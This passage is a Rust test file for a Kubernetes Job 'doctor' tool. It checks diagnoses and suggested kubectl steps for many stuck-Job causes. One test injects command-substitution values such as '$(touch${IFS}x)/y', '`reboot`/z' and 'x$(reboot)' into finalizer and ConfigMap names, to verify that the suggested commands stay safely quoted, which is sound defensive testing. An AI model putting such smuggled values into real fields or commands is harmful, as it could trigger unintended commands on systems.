//! One example a code, with the words that a reader needs; and that a healthy Job has no findings.

use std::{collections::BTreeSet, sync::Arc};

use jiff::Timestamp;
use k8s_openapi::api::core::v1::Pod;
use serde_json::{Value, json};

use super::*;
use crate::model::observed_job::{JobReference, ObservedJob};

const NOW: &str = "2026-01-06T10:10:00Z";
const TRACKING: &str = "batch.kubernetes.io/job-tracking";

fn reference() -> JobReference {
    JobReference { namespace: "etl".parse().unwrap(), name: "train".parse().unwrap(), uid: "u-1".into() }
}

/// Lays one object over another, key by key; lists and values replace.
fn over(base: Value, top: &Value) -> Value {
    match (base, top) {
        (Value::Object(mut base), Value::Object(top)) => {
            for (key, value) in top {
                let before = base.remove(key).unwrap_or(Value::Null);
                base.insert(key.clone(), over(before, value));
            }
            Value::Object(base)
        }
        (_, top) => top.clone(),
    }
}

fn facts() -> Facts {
    Facts::new(NOW.parse().unwrap(), reference(), None)
}

/// A running Job made ten minutes ago, changed as given.
fn of_job(change: &Value) -> Facts {
    let job = json!({
        "metadata": {"namespace": "etl", "name": "train", "uid": "u-1", "creationTimestamp": "2026-01-06T10:00:00Z"},
        "spec": {"parallelism": 1, "completions": 1, "backoffLimit": 2,
                 "template": {"spec": {"containers": [{"name": "base"}]}}},
        "status": {"startTime": "2026-01-06T10:00:00Z", "active": 1},
    });
    let job = ObservedJob::read(&over(job, change)).unwrap();
    let mut facts = facts();
    facts.job = Some(Arc::new(job));
    facts.pods = Known::Seen(Vec::new());
    facts.events = Known::Seen(Vec::new());
    facts.namespace = Known::Seen(NamespaceState::Active);
    facts
}

/// A Pod of it that runs on `w2`, changed as given.
fn with_pod(mut facts: Facts, change: &Value) -> Facts {
    let pod = json!({
        "metadata": {"namespace": "etl", "name": "train-x", "uid": "p-1", "creationTimestamp": "2026-01-06T10:00:01Z",
                     "finalizers": [TRACKING],
                     "ownerReferences": [{"apiVersion": "batch/v1", "kind": "Job", "name": "train", "uid": "u-1",
                                          "controller": true, "blockOwnerDeletion": true}]},
        "spec": {"nodeName": "w2", "containers": []},
        "status": {"phase": "Running", "startTime": "2026-01-06T10:00:02Z",
                   "conditions": [{"type": "PodScheduled", "status": "True", "lastTransitionTime": "2026-01-06T10:00:02Z"}],
                   "containerStatuses": [status("base", &json!({"running": {"startedAt": "2026-01-06T10:00:03Z"}}))]},
    });
    let pod = serde_json::from_value::<Pod>(over(pod, change)).unwrap();
    let Known::Seen(pods) = &mut facts.pods else { panic!("no list of Pods") };
    pods.push(Arc::new(pod));
    facts.nodes.entry("w2".into()).or_insert(Known::Seen(NodeState::Ready));
    facts
}

fn status(name: &str, state: &Value) -> Value {
    json!({"name": name, "image": "registry/train:1", "imageID": "", "ready": false, "restartCount": 3, "state": state})
}

fn with_event(mut facts: Facts, about: &str, reason: &str, message: &str) -> Facts {
    let event = json!({"metadata": {}, "type": "Warning", "reason": reason, "message": message, "count": 4,
        "involvedObject": {"uid": about}, "firstTimestamp": "2026-01-06T10:05:00Z", "lastTimestamp": "2026-01-06T10:09:00Z"});
    let Known::Seen(events) = &mut facts.events else { panic!("no list of Events") };
    events.push(serde_json::from_value(event).unwrap());
    facts
}

fn deleted(finalizers: &[&str]) -> Facts {
    of_job(&json!({"metadata": {"deletionTimestamp": "2026-01-06T10:08:00Z", "finalizers": finalizers}}))
}

fn waiting(reason: &str, message: &str) -> Facts {
    let state = json!({"waiting": {"reason": reason, "message": message}});
    let mut container = status("base", &state);
    container["restartCount"] = json!(0);
    with_pod(of_job(&json!({})), &json!({"status": {"phase": "Pending", "containerStatuses": [container]}}))
}

fn refused(message: &str) -> Facts {
    with_event(of_job(&json!({"status": {"active": 0}})), "u-1", "FailedCreate", message)
}

fn pending(change: &Value) -> Facts {
    with_pod(of_job(&json!({})), &over(json!({"status": {"phase": "Pending", "containerStatuses": null}}), change))
}

/// A Pod that the scheduler says this of, of a template with these fields.
fn unschedulable(message: &str, template: &Value) -> Facts {
    let condition = json!({"type": "PodScheduled", "status": "False", "reason": "Unschedulable", "message": message,
        "lastTransitionTime": "2026-01-06T10:09:00Z"});
    let job = of_job(&json!({"spec": {"template": {"spec": template}}}));
    let pod = json!({"spec": {"nodeName": null}, "status": {"phase": "Pending", "containerStatuses": null,
        "conditions": [condition]}});
    with_pod(job, &pod)
}

fn lost(mut facts: Facts) -> Facts {
    let why = "NodeStatusUnknown: Kubelet stopped posting node status.".into();
    facts.nodes.insert("w2".into(), Known::Seen(NodeState::NotReady { since: Some(at("2026-01-06T10:06:00Z")), why }));
    facts
}

fn at(time: &str) -> Timestamp {
    time.parse().unwrap()
}

fn terminating(conditions: &[(&str, &str)]) -> Facts {
    let mut facts = of_job(&json!({}));
    let conditions = conditions.iter().map(|(kind, message)| ((*kind).to_owned(), (*message).to_owned())).collect();
    facts.namespace = Known::Seen(NamespaceState::Terminating { since: Some(at("2026-01-06T10:07:00Z")), conditions });
    facts
}

fn refuses(set: impl FnOnce(&mut Facts, Known<Probe>), mut facts: Facts) -> Facts {
    let said = "admission webhook \"guard.example.com\" denied the request: no".to_owned();
    set(&mut facts, Known::Seen(Probe::Refused(said)));
    facts
}

struct Example {
    code: Code,
    facts: Facts,
    words: &'static [&'static str],
}

#[allow(clippy::too_many_lines, reason = "a table")]
fn examples() -> Vec<Example> {
    let ended = json!({"status": {"phase": "Succeeded", "containerStatuses": [status("base", &json!({"terminated":
        {"exitCode": 0, "finishedAt": "2026-01-06T10:05:00Z"}}))]}});
    let going = json!({"metadata": {"deletionTimestamp": "2026-01-06T10:08:30Z"}});
    let row = |code, facts, words| Example { code, facts, words };
    vec![
        row(
            Code::FinalizerOrphanStuck,
            with_pod(deleted(&["orphan"]), &json!({})),
            &["`orphan`", "garbage collector", "--fix", "train-x", "which of these is unknown: not asked"],
        ),
        row(Code::FinalizerForegroundStuck, deleted(&["foregroundDeletion"]), &["no Pod of it is left", "--fix"]),
        row(
            Code::ForegroundHeldByPods,
            with_pod(deleted(&["foregroundDeletion"]), &going),
            &["`train-x`", "not safe by itself"],
        ),
        row(
            Code::ForeignFinalizer,
            deleted(&["orphan", "example.com/backup"]),
            &[
                "waits for its finalizer `example.com/backup`",
                "whoever runs `example.com`",
                "/metadata/finalizers/1",
                "\"value\":\"u-1\"",
            ],
        ),
        row(
            Code::WebhookBreaksJobUpdate,
            refuses(|facts, probe| facts.job_update = probe, deleted(&["orphan"])),
            &["guard.example.com", "validatingwebhookconfigurations"],
        ),
        row(
            Code::WebhookBreaksPodUpdate,
            refuses(|facts, probe| facts.pod_update = probe, with_pod(of_job(&json!({})), &ended)),
            &["guard.example.com", "Pods"],
        ),
        row(
            Code::WebhookRefusesDelete,
            refuses(|facts, probe| facts.job_delete = probe, of_job(&json!({}))),
            &["guard.example.com", "cannot be deleted"],
        ),
        row(
            Code::TtlNotObeyed,
            of_job(&json!({"spec": {"ttlSecondsAfterFinished": 60}, "status": {"active": 0,
                "completionTime": "2026-01-06T10:01:00Z", "conditions": [{"type": "Complete", "status": "True"}]}})),
            &["480 s ago", "ttlSecondsAfterFinished 60", "TTL controller"],
        ),
        row(
            Code::PodOnLostNode,
            lost(with_pod(deleted(&[]), &going)),
            &["may still run", "`w2`", "Kubelet stopped posting"],
        ),
        row(
            Code::PodForeignFinalizer,
            with_pod(
                deleted(&[]),
                &over(going.clone(), &json!({"metadata": {"finalizers": [TRACKING, "example.com/hold"]}})),
            ),
            &["`example.com/hold`", "whoever runs `example.com`", "patch pod train-x", "/metadata/finalizers/1"],
        ),
        row(
            Code::PodJobTrackingStuck,
            with_pod(of_job(&json!({})), &ended),
            &["Job controller", "has neither counted it", "which is not known"],
        ),
        row(
            Code::PodOutlivesGracePeriod,
            with_pod(deleted(&[]), &going),
            &["still runs on node `w2`, which is ready", "10:08:30Z"],
        ),
        row(
            Code::PodsOfVanishedJob,
            {
                let mut facts = facts();
                facts.pods = Known::Seen(Vec::new());
                with_pod(facts, &json!({"metadata": {"ownerReferences": []}}))
            },
            &["does not exist any more", "Orphan", "`train-x`", "no owner", "--fix"],
        ),
        row(
            Code::DecidedButHeldByPods,
            with_pod(
                of_job(&json!({"status": {"conditions": [{"type": "FailureTarget", "status": "True",
                    "reason": "DeadlineExceeded", "message": "too long", "lastTransitionTime": "2026-01-06T10:02:00Z"}]}})),
                &json!({}),
            ),
            &["has failed (DeadlineExceeded)", "`train-x`"],
        ),
        row(
            Code::AggregatedApiUnavailable,
            terminating(&[("NamespaceDeletionDiscoveryFailure", "metrics.k8s.io/v1beta1: stale")]),
            &["metrics.k8s.io/v1beta1", "apiservices"],
        ),
        row(
            Code::NamespaceTerminating,
            terminating(&[("NamespaceFinalizersRemaining", "example.com/hold in 1 resource instances")]),
            &["`etl` is being deleted", "example.com/hold"],
        ),
        row(
            Code::JobControllerSilent,
            of_job(&json!({"status": {"startTime": null, "active": null}})),
            &["no Pod, no status, and no Event", "kube-controller-manager"],
        ),
        row(
            Code::DeadlineNotEnforced,
            with_pod(of_job(&json!({"spec": {"activeDeadlineSeconds": 120}})), &json!({})),
            &["past its activeDeadlineSeconds"],
        ),
        row(
            Code::QuotaExceeded,
            refused(
                "Error creating: pods \"train-y\" is forbidden: exceeded quota: small, requested: pods=1, used: pods=2, limited: pods=2",
            ),
            &[
                "ResourceQuota `small` is used up (2 of 2 pods are used, and one Pod asks for 1)",
                "gets no Pod",
                "4 times",
            ],
        ),
        row(
            Code::QuotaNeverFits,
            refused(
                "Error creating: pods \"train-y\" is forbidden: exceeded quota: team, requested: limits.memory=1Gi,requests.cpu=2, \
                 used: limits.memory=0,requests.cpu=0, limited: limits.memory=8Gi,requests.cpu=1500m",
            ),
            &["ResourceQuota `team` allows 1500m requests.cpu in all, and one Pod asks for 2", "can never get a Pod"],
        ),
        row(
            Code::QuotaDemandsResources,
            refused(
                "Error creating: pods \"y\" is forbidden: failed quota: team: must specify limits.cpu for: base,side; requests.memory for: base",
            ),
            &[
                "Containers `base`, `side` set no limits.cpu; Container `base` sets no requests.memory, which ResourceQuota `team` demands, so",
            ],
        ),
        row(
            Code::PriorityClassMissing,
            refused("Error creating: pods \"y\" is forbidden: no PriorityClass with name batch-low was found"),
            &["PriorityClass `batch-low` does not exist, so Job `etl/train` gets no Pod", "priorityClassName"],
        ),
        row(
            Code::RuntimeClassMissing,
            refused("Error creating: pods \"y\" is forbidden: pod rejected: RuntimeClass \"gvisor\" not found"),
            &["RuntimeClass `gvisor` does not exist, so Job `etl/train` gets no Pod", "runtimeClassName"],
        ),
        row(
            Code::ServiceAccountMissing,
            refused(
                "Error creating: pods \"train-\" is forbidden: error looking up service account etl/robot: \
                     serviceaccount \"robot\" not found",
            ),
            &["Service account `default` does not exist"],
        ),
        row(
            Code::PodSecurityRefuses,
            refused(
                "Error creating: pods \"train-y\" is forbidden: violates PodSecurity \"restricted:latest\": runAsNonRoot != true \
                 (pod or container \"base\" must set securityContext.runAsNonRoot=true), seccompProfile (pod must (x))",
            ),
            &[
                "Pod Security `restricted` of namespace `etl` refuses its Pods (runAsNonRoot, seccompProfile), so",
                "RuntimeDefault",
            ],
        ),
        row(
            Code::WebhookRefusesPods,
            refused("Error creating: Internal error occurred: failed calling webhook \"pods.example.com\": refused"),
            &["Admission webhook `pods.example.com` does not answer"],
        ),
        row(
            Code::PodsRefused,
            refused("Error creating: pods \"train-y\" is forbidden: maximum cpu usage per Container is 1"),
            &["The API server refuses the Pods: maximum cpu usage per Container is 1, so Job"],
        ),
        row(
            Code::Unschedulable,
            pending(
                &json!({"spec": {"nodeName": null}, "status": {"conditions": [{"type": "PodScheduled", "status": "False",
                "reason": "Unschedulable", "message": "0/1 nodes are available: 1 Insufficient cpu."}]}}),
            ),
            &["No node has enough cpu free, so Pod `etl/train-x` cannot be scheduled", "Insufficient cpu"],
        ),
        row(
            Code::ClaimMissing,
            unschedulable("0/1 nodes are available: persistentvolumeclaim \"data\" not found. not found", &json!({})),
            &["PersistentVolumeClaim `data` does not exist, so Pod `etl/train-x` cannot be scheduled"],
        ),
        row(
            Code::ClaimNotBound,
            {
                let claim = json!([{"name": "d", "persistentVolumeClaim": {"claimName": "data"}}]);
                let mut facts = unschedulable(
                    "0/1 nodes are available: pod has unbound immediate PersistentVolumeClaims. not found",
                    &json!({"volumes": claim}),
                );
                let event = json!({"metadata": {}, "type": "Warning", "reason": "ProvisioningFailed",
                    "message": "storageclass.storage.k8s.io \"fast\" not found", "lastTimestamp": "2026-01-06T10:09:00Z",
                    "involvedObject": {"kind": "PersistentVolumeClaim", "name": "data"}});
                let Known::Seen(events) = &mut facts.events else { panic!("no list of Events") };
                events.push(serde_json::from_value(event).unwrap());
                facts
            },
            &["StorageClass `fast` of PersistentVolumeClaim `data` does not exist, so"],
        ),
        row(
            Code::SchedulerSilent,
            pending(&json!({"spec": {"nodeName": null}, "status": {"startTime": null, "conditions": []}})),
            &["kube-scheduler does not work", "no decision of the scheduler"],
        ),
        row(
            Code::KubeletSilent,
            lost(pending(&json!({"status": {"startTime": null}}))),
            &["The kubelet of node `w2` does not work", "Kubelet stopped posting"],
        ),
        row(
            Code::ImageNotFound,
            waiting("ErrImagePull", "failed to resolve reference \"registry/train:1\": registry/train:1: not found"),
            &["The registry has no image `registry/train:1`", "ErrImagePull"],
        ),
        row(
            Code::ImageNoCredentials,
            waiting("ImagePullBackOff", "pull access denied, repository does not exist or may require authorization"),
            &["without credentials, or has no such image", "no image_pull_secrets"],
        ),
        row(
            Code::ImageNeverPulled,
            waiting("ErrImageNeverPull", "Container image is not present with pull policy of Never"),
            &["`w2` does not have image `registry/train:1`", "ErrImageNeverPull"],
        ),
        row(Code::ImageNameInvalid, waiting("InvalidImageName", "couldn't parse image name"), &["InvalidImageName"]),
        row(
            Code::RegistryUnreachable,
            waiting("ErrImagePull", "Head \"https://registry/v2/\": dial tcp: lookup registry: no such host"),
            &["Image `registry/train:1` cannot be pulled: node `w2` cannot reach its registry (", "no such host"],
        ),
        row(
            Code::RegistryThrottles,
            waiting("ErrImagePull", "toomanyrequests: You have reached your pull rate limit"),
            &["refuses more requests", "toomanyrequests"],
        ),
        row(
            Code::ImagePullFailing,
            waiting("ImagePullBackOff", "Back-off pulling image \"registry/train:1\""),
            &["Image `registry/train:1` cannot be pulled"],
        ),
        row(
            Code::ConfigMissing,
            waiting("CreateContainerConfigError", "configmap \"settings\" not found"),
            &["ConfigMap `settings` does not exist", "create configmap settings"],
        ),
        row(
            Code::ContainerNotCreated,
            waiting("RunContainerError", "exec: \"tain\": executable file not found in $PATH"),
            &["The command `tain` is not in the image, so container `base` of Pod `etl/train-x` cannot start"],
        ),
        row(
            Code::RunsAsRoot,
            waiting("CreateContainerConfigError", "container has runAsNonRoot and image will run as root (pod: x)"),
            &["Image `registry/train:1` runs as root, and runAsNonRoot forbids that", "runAsUser"],
        ),
        row(
            Code::InitContainerWaiting,
            {
                let init = status("wait-for-db", &json!({"running": {"startedAt": "2026-01-06T10:08:00Z"}}));
                let mut facts = pending(&json!({"status": {"initContainerStatuses": [init]}}));
                let line = LastLine { at: Some(at("2026-01-06T10:08:30Z")), text: "no db yet".into() };
                facts.last_lines.insert(("p-1".into(), "wait-for-db".into()), line);
                facts
            },
            &["Init container `wait-for-db` runs and does not end", "no db yet", "init_timeout_seconds"],
        ),
        row(
            Code::IndexesFailed,
            with_pod(
                of_job(&json!({"status": {"failedIndexes": "3"}})),
                &json!({"metadata": {"labels": {"batch.kubernetes.io/job-completion-index": "3"}, "finalizers": []},
                    "status": {"phase": "Failed", "containerStatuses": [status("base",
                    &json!({"terminated": {"exitCode": 4, "reason": "Error", "finishedAt": "2026-01-06T10:05:00Z"}}))]}}),
            ),
            &[
                "Index 3 has failed and will not be tried again (container `base` ended with exit code 4)",
                "fails at the end",
                "job-name=train,batch.kubernetes.io/job-completion-index=3",
            ],
        ),
        row(
            Code::ContainerSilent,
            {
                let started = json!({"running": {"startedAt": "2026-01-06T01:00:00Z"}});
                let mut facts =
                    with_pod(of_job(&json!({})), &json!({"status": {"containerStatuses": [status("base", &started)]}}));
                let line = LastLine { at: Some(at("2026-01-06T02:00:00Z")), text: "epoch 7".into() };
                facts.last_lines.insert(("p-1".into(), "base".into()), line);
                facts
            },
            &[
                "Container `base` of Pod `etl/train-x` runs, and has written no line since 2026-01-06T02:00:00Z",
                "epoch 7",
            ],
        ),
        row(
            Code::NotReady,
            with_pod(
                of_job(
                    &json!({"spec": {"template": {"spec": {"containers": [{"name": "base", "readinessProbe": {}}]}}}}),
                ),
                &json!({}),
            ),
            &["readiness probe does not succeed"],
        ),
        row(
            Code::VolumeNotMounted,
            with_event(pending(&json!({})), "p-1", "FailedMount", "MountVolume.SetUp failed: stale NFS handle"),
            &["volume", "stale NFS handle"],
        ),
        row(
            Code::SandboxNotCreated,
            with_event(pending(&json!({})), "p-1", "FailedCreatePodSandBox", "plugin type=\"calico\" failed"),
            &["sandbox", "calico"],
        ),
        row(Code::NodeNotReady, lost(with_pod(of_job(&json!({})), &json!({}))), &["`w2`", "is not known"]),
        row(
            Code::InitContainerFailing,
            pending(&json!({"status": {"initContainerStatuses": [over(
                status("prepare", &json!({"waiting": {"reason": "CrashLoopBackOff"}})),
                &json!({"lastState": {"terminated": {"exitCode": 7, "reason": "Error"}}}))]}})),
            &["`prepare`", "exit code 7", "restarted 3 times"],
        ),
        row(
            Code::CrashLoop,
            with_pod(
                of_job(&json!({})),
                &json!({"status": {"containerStatuses": [over(
                status("base", &json!({"waiting": {"reason": "CrashLoopBackOff"}})),
                &json!({"lastState": {"terminated": {"exitCode": 1, "reason": "Error"}}}))]}}),
            ),
            &["`base`", "again and again", "exit code 1"],
        ),
        row(
            Code::SidecarKeepsPodAlive,
            with_pod(
                of_job(&json!({})),
                &json!({"status": {"containerStatuses": [
                status("base", &json!({"terminated": {"exitCode": 0, "finishedAt": "2026-01-06T10:05:00Z"}})),
                status("istio-proxy", &json!({"running": {"startedAt": "2026-01-06T10:00:03Z"}}))]}}),
            ),
            &["`base`", "`istio-proxy`", "was added to the Pod"],
        ),
        row(
            Code::DeadlineNear,
            with_pod(of_job(&json!({"spec": {"activeDeadlineSeconds": 630}})), &json!({})),
            &["in 30 s"],
        ),
        row(
            Code::BackoffWaiting,
            with_pod(
                of_job(&json!({"status": {"active": 0, "failed": 2}})),
                &json!({"metadata": {"finalizers": []},
                "status": {"phase": "Failed", "containerStatuses": [status("base", &json!({"terminated":
                    {"exitCode": 1, "finishedAt": "2026-01-06T10:09:50Z"}}))]}}),
            ),
            &["Kubernetes starts retry 2 of 2 by itself", "the pause after the last is 20 s", "10:10:10Z"],
        ),
        row(
            Code::SchedulingGated,
            pending(
                &json!({"spec": {"nodeName": null}, "status": {"conditions": [{"type": "PodScheduled", "status": "False",
                "reason": "SchedulingGated", "message": "Scheduling is blocked"}]}}),
            ),
            &["scheduling gates"],
        ),
        row(
            Code::KueueNotAdmitted,
            of_job(&json!({"metadata": {"labels": {"kueue.x-k8s.io/queue-name": "team-a"}}, "spec": {"suspend": true},
                "status": {"active": 0}})),
            &["queue `team-a`: Kueue has not admitted it yet", "workloads,localqueues"],
        ),
        row(
            Code::Suspended,
            of_job(&json!({"spec": {"suspend": true}, "status": {"active": 0}})),
            &["is suspended", "\"suspend\":false"],
        ),
        row(
            Code::ParallelismZero,
            of_job(&json!({"spec": {"parallelism": 0}, "status": {"active": 0}})),
            &["is paused: its parallelism is 0", "\"parallelism\":1"],
        ),
        row(
            Code::ManagedElsewhere,
            of_job(&json!({"spec": {"managedBy": "kueue.x-k8s.io/multikueue"}, "status": {"active": 0}})),
            &["`kueue.x-k8s.io/multikueue`", "another cluster"],
        ),
    ]
}

#[test]
fn each_code_is_found_in_its_example_with_the_words_that_matter() {
    for Example { code, facts, words } in examples() {
        let found = findings(&facts);
        let finding = found.iter().find(|finding| finding.code == code);
        let finding = finding.unwrap_or_else(|| panic!("{code} was not found, but {found:#?}"));
        let text = finding.to_string();
        for word in words {
            assert!(text.contains(word), "{code}: no {word:?} in\n{text}");
        }
        assert!(!finding.next_step.is_empty(), "{code} has no next step");
        assert!(!finding.cause.ends_with('.') && !text.contains("  ;"), "{text}");
    }
}

#[test]
fn comment_of_a_next_step_is_nothing_to_a_shell_that_does_not_know_comments() {
    let hostile = deleted(&["$(touch${IFS}x)/y", "`reboot`/z"]);
    let injected = waiting("CreateContainerConfigError", "configmap \"x$(reboot)\" not found");
    let key = waiting("CreateContainerConfigError", "couldn't find key `reboot` in Secret etl/vault");
    let all = examples().into_iter().map(|example| example.facts).chain([hostile, injected, key]);
    let steps = all
        .flat_map(|facts| findings(&facts))
        .flat_map(|finding| [finding.next_step.clone(), finding.last_resort.clone()].map(|step| (step, finding.code)));
    for (step, code) in steps {
        let (command, comment) = step.split_once('#').unwrap_or((&step, ""));
        let special = |letter: char| "`;'\"()[]{}<>$&|\\!#".contains(letter) || letter.is_control();
        assert!(!comment.contains(special), "{code}: {comment}");
        let mut quoted = false;
        let bare = command.chars().filter(|letter| {
            quoted ^= *letter == '\'';
            !quoted
        });
        assert!(!bare.collect::<String>().contains(['`', '$', ';', '"', '&', '|']), "{code}: {command}");
    }
}

#[test]
fn job_of_parallelism_0_has_no_other_finding_but_that_its_deadline_is_near() {
    let paused = |spec: Value, status: Value| {
        let spec = over(json!({"parallelism": 0}), &spec);
        findings(&of_job(&json!({"spec": spec, "status": status}))).iter().map(|found| found.code).collect::<Vec<_>>()
    };
    assert_eq!(paused(json!({}), json!({"active": 0})), [Code::ParallelismZero]);
    assert_eq!(paused(json!({}), json!({"active": 0, "failed": 1})), [Code::ParallelismZero], "no pause between Pods");
    assert_eq!(paused(json!({"suspend": true}), json!({"active": 0})), [Code::Suspended]);
    let near = paused(json!({"activeDeadlineSeconds": 620}), json!({"active": 0}));
    assert_eq!(near, [Code::DeadlineNear, Code::ParallelismZero]);
}

#[test]
fn decided_job_is_held_by_a_pod_whose_phase_is_not_the_last_although_its_containers_have_ended() {
    let ended = json!({"terminated": {"exitCode": 1, "finishedAt": "2026-01-06T10:05:00Z"}});
    let facts = with_pod(
        of_job(
            &json!({"status": {"conditions": [{"type": "FailureTarget", "status": "True", "reason": "DeadlineExceeded",
            "lastTransitionTime": "2026-01-06T10:05:00Z"}]}}),
        ),
        &json!({"metadata": {"deletionTimestamp": "2026-01-06T10:05:30Z"},
            "status": {"phase": "Running", "containerStatuses": [status("base", &ended)]}}),
    );
    let held = findings(&facts).into_iter().find(|finding| finding.code == Code::DecidedButHeldByPods).unwrap();
    assert!(held.cause.ends_with("these have not ended: `train-x`"), "{}", held.cause);
}

#[test]
fn job_that_its_manager_suspended_is_not_resumed_by_hand() {
    let spec = json!({"spec": {"suspend": true, "managedBy": "example.com/robot"}});
    let [finding] = findings(&of_job(&spec)).try_into().unwrap();
    assert_eq!(finding.next_step, "kubectl -n etl get job train -o yaml");
}

#[test]
fn job_is_to_be_deleted_only_for_a_sidecar_that_was_certainly_not_meant() {
    let step = |others: &str, template: &Value| {
        let facts = with_pod(
            of_job(&json!({"spec": {"template": {"spec": {"containers": template}}}})),
            &json!({"status": {"containerStatuses": [
                status("base", &json!({"terminated": {"exitCode": 0, "finishedAt": "2026-01-06T10:05:00Z"}})),
                status(others, &json!({"running": {"startedAt": "2026-01-06T10:00:03Z"}}))]}}),
        );
        let [finding] = findings(&facts).try_into().unwrap();
        assert!(!finding.next_step.contains("delete"), "{finding}");
        (finding.severity, finding.last_resort.contains("delete"))
    };
    assert_eq!(step("istio-proxy", &json!([{"name": "base"}])), (Severity::Blocking, true));
    assert_eq!(step("proxy", &json!([{"name": "base"}, {"name": "proxy"}])), (Severity::Warning, false));
}

#[test]
fn missing_configuration_is_not_to_be_made_up() {
    let volume = "MountVolume.SetUp failed: secret \"vault\" not found";
    for (facts, from) in [
        (waiting("CreateContainerConfigError", "configmap \"settings\" not found"), " --from-env-file=FILE"),
        (waiting("CreateContainerConfigError", "secret \"vault\" not found"), " --from-env-file=FILE"),
        (with_event(pending(&json!({})), "p-1", "FailedMount", volume), " --from-file=FILE"),
    ] {
        let [finding] = findings(&facts).try_into().unwrap();
        assert!(finding.next_step.contains(from), "{finding}");
    }
}

#[test]
fn every_code_has_an_example_and_a_name_of_its_own() {
    let shown: BTreeSet<_> = examples().iter().map(|example| example.code).collect();
    assert_eq!(shown, Code::ALL.iter().copied().collect());
    let names: BTreeSet<_> = Code::ALL.iter().map(|code| code.name()).collect();
    assert_eq!(names.len(), Code::ALL.len());
}

#[test]
fn every_code_has_its_heading_on_the_page_that_doctor_names() {
    let page = include_str!("../../docs/stuck.md");
    let headings: Vec<_> = page.lines().filter_map(|line| line.strip_prefix("### ")).collect();
    let codes: Vec<_> = Code::ALL.iter().map(|code| code.name()).collect();
    assert_eq!(BTreeSet::from_iter(&headings), BTreeSet::from_iter(&codes));
    assert_eq!(headings.len(), codes.len(), "each once");
}

#[test]
fn most_blocking_finding_comes_first() {
    for Example { facts, .. } in examples() {
        let severities: Vec<_> = findings(&facts).iter().map(|finding| finding.severity).collect();
        assert!(severities.is_sorted_by(|before, after| before >= after), "{severities:?}");
    }
}

#[test]
fn healthy_job_has_no_findings() {
    let base = |state: &Value| json!({"status": {"containerStatuses": [status("base", state)]}});
    let young = |seconds: &str| json!({"metadata": {"creationTimestamp": format!("2026-01-06T10:09:{seconds}Z")}});
    let healthy = vec![
        ("running", with_pod(of_job(&json!({})), &json!({}))),
        ("just made", of_job(&over(young("55"), &json!({"status": {"startTime": null, "active": null}})))),
        (
            "finished",
            of_job(&json!({"status": {"active": 0, "completionTime": "2026-01-06T10:05:00Z",
            "conditions": [{"type": "Complete", "status": "True"}]}})),
        ),
        (
            "finished, TTL still to come",
            of_job(&json!({"spec": {"ttlSecondsAfterFinished": 3600}, "status": {"active": 0,
            "completionTime": "2026-01-06T10:05:00Z", "conditions": [{"type": "Complete", "status": "True"}]}})),
        ),
        (
            "deleted just now",
            of_job(&json!({"metadata": {"deletionTimestamp": "2026-01-06T10:09:58Z",
            "finalizers": ["orphan"]}})),
        ),
        (
            "deleted, Pods within their grace period",
            with_pod(
                deleted(&["foregroundDeletion"]),
                &json!({"metadata": {"deletionTimestamp": "2026-01-06T10:10:20Z"}}),
            ),
        ),
        (
            "Pod being made",
            with_pod(
                of_job(&json!({})),
                &over(
                    json!({"status": {"phase": "Pending"}}),
                    &base(&json!({"waiting": {"reason": "ContainerCreating"}})),
                ),
            ),
        ),
        (
            "Pod ended just now",
            with_pod(
                of_job(&json!({})),
                &over(
                    json!({"status": {"phase": "Succeeded"}}),
                    &base(&json!({"terminated": {"exitCode": 0, "finishedAt": "2026-01-06T10:09:50Z"}})),
                ),
            ),
        ),
        (
            "refusal that a later Pod disproved",
            with_pod(with_event(of_job(&json!({})), "u-1", "FailedCreate", "exceeded quota: small"), &young("30")),
        ),
    ];
    for (name, facts) in healthy {
        assert_eq!(findings(&facts), [], "{name}");
    }
}

#[test]
fn what_was_not_asked_or_may_not_be_read_is_no_finding() {
    let mut facts = with_pod(of_job(&json!({})), &json!({}));
    let no_right = Unknown::NoRight { verb: "get", resource: "nodes" };
    facts.nodes.insert("w2".into(), Known::Not(no_right.clone()));
    facts.namespace = Known::Not(Unknown::NoRight { verb: "get", resource: "namespaces" });
    facts.events = Known::default();
    assert_eq!(findings(&facts), []);
    assert_eq!(facts.unknown().len(), 2);
    assert_eq!(no_right.to_string(), "unknown: no right to get nodes");
}

#[test]
fn tag_and_digest_of_an_image_are_not_the_answer_of_its_registry() {
    let code = |image: &str, said: &str| {
        let mut container = status("base", &json!({"waiting": {"reason": "ErrImagePull", "message": said}}));
        container["image"] = json!(image);
        let pod = json!({"status": {"phase": "Pending", "containerStatuses": [container]}});
        let [finding] = findings(&with_pod(of_job(&json!({})), &pod)).try_into().unwrap();
        finding.code
    };
    let failed = |image: &str, why: &str| format!("Failed to pull image \"{image}\": rpc error: code = Unknown: {why}");
    for image in ["r/train:429", "r/train@sha256:0401fa", "r/denied/404:1.403", "not found/x"] {
        assert_eq!(code(image, &failed(image, "unexpected EOF")), Code::ImagePullFailing, "{image}");
    }
    let head = "unexpected status from HEAD request to http://r/v2/train/manifests/429";
    assert_eq!(code("r/train:429", &failed("r/train:429", &format!("{head}: 401"))), Code::ImageNoCredentials);
    assert_eq!(code("r/train:429", &failed("r/train:429", &format!("{head}: 404 Not Found"))), Code::ImageNotFound);
    assert_eq!(code("r/train:1", "layer sha256:a404b: unexpected EOF"), Code::ImagePullFailing);
}

#[test]
fn key_that_a_secret_lacks_is_named() {
    let facts = waiting("CreateContainerConfigError", "couldn't find key token in Secret etl/vault");
    let [finding] = findings(&facts).try_into().unwrap();
    assert!(finding.cause.contains("Secret `vault` has no key `token`"), "{}", finding.cause);
}

#[test]
fn release_is_offered_only_where_no_work_can_be_running_unseen_and_nobody_else_holds_the_job() {
    assert_eq!(findings(&deleted(&["orphan"]))[0].remedy, Some(Remedy::ReleaseGcFinalizers));
    let foreign = findings(&deleted(&["orphan", "example.com/backup"]));
    assert!(foreign.iter().all(|finding| finding.remedy.is_none()), "{foreign:#?}");
    let going = json!({"metadata": {"deletionTimestamp": "2026-01-06T10:08:30Z"}});
    let alive = findings(&lost(with_pod(deleted(&["foregroundDeletion"]), &going)));
    assert!(alive.iter().all(|finding| finding.remedy.is_none()), "{alive:#?}");
    let dead = over(going, &json!({"metadata": {"finalizers": ["example.com/hold"]}, "status": {"phase": "Failed"}}));
    let ended = findings(&with_pod(deleted(&["foregroundDeletion"]), &dead));
    assert!(ended.iter().any(|finding| finding.remedy == Some(Remedy::ReleaseGcFinalizers)), "{ended:#?}");
}

#[test]
fn event_of_a_failure_that_is_over_makes_nobody_stuck() {
    let found = |reason: &str, last: &str, ready: Option<&str>| {
        let conditions: Vec<_> =
